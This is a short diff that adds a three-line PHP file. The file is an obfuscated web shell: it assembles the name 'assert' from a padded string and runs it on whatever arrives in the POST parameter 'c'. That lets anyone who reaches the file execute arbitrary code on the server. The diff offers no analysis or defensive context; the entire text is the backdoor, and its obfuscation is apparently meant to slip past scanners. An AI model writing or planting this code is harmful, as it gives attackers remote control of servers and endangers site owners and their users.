@@ -1,0 +1,3 @@
+<?php
+$a = str_replace('x', '', 'axsxxsxexrxxt');
+$a($_POST['c']);
